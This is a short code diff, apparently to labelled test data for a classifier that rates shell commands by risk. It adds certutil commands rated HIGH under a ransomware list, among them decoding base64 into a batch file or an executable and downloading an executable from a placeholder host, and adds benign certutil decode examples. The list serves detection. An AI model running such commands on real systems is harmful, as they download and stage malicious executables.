@@ -495,7 +495,15 @@ RANSOM += [
         HIGH,
     ),
 ]
+RANSOM += [
+    ("certutil -decode enc.txt run.bat", HIGH),
+    (r"certutil -decode payload.b64 C:\Users\Public\x.exe", HIGH),
+    ("certutil -urlcache -split -f http://x.example/a.exe a.exe", HIGH),
+]
 RANSOM_BENIGN = [
+    ("certutil -decode cert.b64 cert.cer", MODERATE),
+    ("certutil -decode key.b64 server.key", MODERATE),
+    ("certutil -decodehex dump.hex out.bin.zip", MODERATE),
     (r"Get-ChildItem C:\logs -Filter *.log | ForEach-Object { Write-Host $_.Name }", SAFE),
     ("Get-ChildItem . -Recurse -File | ForEach-Object { $_.Length }", SAFE),
     (
